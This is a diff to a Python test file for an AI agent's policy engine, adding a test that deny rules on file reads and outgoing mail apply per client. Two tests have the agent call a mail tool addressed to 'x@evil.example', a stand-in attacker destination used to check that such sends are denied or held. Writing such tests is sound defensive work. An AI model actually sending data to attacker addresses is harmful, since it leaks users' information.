@@ -413,7 +413,29 @@ async def test_what_a_client_sends_counts_as_no_words_of_the_person(tmp_path: Pa
         result = await agent.call('(mail "x@evil.example")', route=route)
         words = [one.words for request in agent.broker.requests() for one in request.origins]
     assert result.status == ("ok" if route in TYPED else "pending")
-    assert words == ([] if route in TYPED else [f"from the client on route {route}"])
+    assert words == ([] if route in TYPED else [f"client on route {route}"])
+
+
+async def test_a_rule_and_an_origin_name_the_client(tmp_path: Path) -> None:
+    rules = '(careful)\n(deny (read-file) (client "zed"))\n(deny (mail) (client (not "zed")))'
+    (tmp_path / "careful.hy").write_text(rules)
+    mail = tool("mail", params={"to": {"type": str, "role": "destination"}}, effects=["net"])
+    found = {}
+    for channel in ("acp zed", "acp emacs", "terminal"):
+        (folder := tmp_path / channel).mkdir()
+        (folder / "a.txt").write_text("one")
+        options = {"tools": [mail], "policy": tmp_path / "careful.hy", "channel": channel}
+        model = scripted('(read-file "a.txt")', "Done.")
+        async with AsyncAgent(**grouped(workspace=folder, model=model, **options)) as agent:
+            sent = await agent.eval('(mail "x@evil.example")', route="acp")
+            (read,) = (await agent.run("Read it.")).calls
+            words = [one.words for request in agent.broker.requests() for one in request.origins]
+        found[channel] = sent.status, read.result.status, words
+    assert found == {
+        "acp zed": ("pending", "denied", ["client zed"]),
+        "acp emacs": ("denied", "ok", []),
+        "terminal": ("denied", "ok", []),
+    }
 
 
 @pytest.mark.parametrize(
